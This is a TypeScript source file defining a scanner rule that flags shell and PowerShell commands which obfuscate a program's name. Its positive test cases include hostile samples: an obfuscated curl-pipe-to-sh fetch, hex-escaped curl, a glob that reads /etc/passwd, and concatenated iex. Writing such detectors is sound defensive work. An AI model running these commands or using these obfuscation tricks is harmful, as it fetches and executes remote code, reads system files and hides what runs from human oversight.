import { defineRule, perInvocation } from './rule.js';

const HOW: Record<string, string> = {
  escape: 'escape sequences',
  quotes: 'quotes inside the name',
  glob: 'wildcards',
  expansion: 'pieces of variables ($IFS, ${VAR:0:1})',
  concat: 'variables or strings glued together',
  substitution: 'the output of another command',
};

export const rule = defineRule({
  id: 'obfuscated_program_name',
  category: 'obfuscation',
  severity: 'critical',
  technique: 'T1027.010',
  title: "Spells a program's name so that it cannot be read (c''url, $'\\x63url', /???/??t, a=cu;b=rl;$a$b, ('ie'+'x'))",
  check: perInvocation((inv) => {
    const how = inv.nameTrick ? HOW[inv.nameTrick] : undefined;
    if (!how) return undefined;
    if (inv.nameTrick === 'glob' && !/\?|\*/.test(inv.written.replace(/^\.\//, ''))) return undefined;
    if (inv.program.includes('\u{E000}')) return `hides which program runs by building its name from ${how}`;
    return `hides that it runs ${inv.program} by writing the name with ${how}`;
  }),
  cases: {
    positive: [["bash", "c''url -s https://x.example | s'h'"], ['bash', "$'\\x63\\x75\\x72\\x6c' http://x.example"], ['bash', 'a=cu;b=rl;$a$b http://x.example'], ['bash', '/???/??t /???/p??s??'], ['powershell', "&('ie'+'x') 'whoami'"], ['bash', 'w"h"o$()ami']],
    negative: [['bash', '"$EDITOR" notes.txt'], ['bash', '\\ls -la'], ['bash', './scripts/build.sh']],
  },
});
